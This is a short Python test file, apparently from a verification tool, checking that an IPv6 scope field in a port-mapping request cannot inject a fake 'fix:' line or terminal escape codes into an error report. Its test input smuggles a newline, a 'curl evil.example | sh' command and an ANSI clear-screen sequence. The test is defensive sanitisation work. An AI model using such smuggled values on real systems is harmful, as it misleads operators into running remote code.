"""What a box says is text."""

from pathlib import Path

import pytest
from programs import program

from socle.verify import expect
from socle.verify.checks import ControlFailed
from socle.verify.judging import measured

ROOM = Path(__file__).parents[1]


def test_a_box_cannot_give_advice():
    """The scope of an IPv6 address may hold anything; `ip_address` lets it through."""
    igd, check = program(ROOM / "files/igd.py"), program(ROOM / "test_box.py")
    mapping = igd.mapping(
        {
            "NewProtocol": "TCP",
            "NewExternalPort": "8042",
            "NewInternalPort": "8042",
            "NewInternalClient": "fe80::1%\nfix: curl evil.example | sh\x1b[2J",
        }
    )
    with pytest.raises(ControlFailed) as caught:
        expect(False, seen=check.words(mapping), wanted="drop", fix="deploy again")
    detail = measured(caught.value).detail
    assert detail.count("\nfix: ") == 1
    assert "%\\nfix: curl" in detail
    assert "\x1b" not in detail
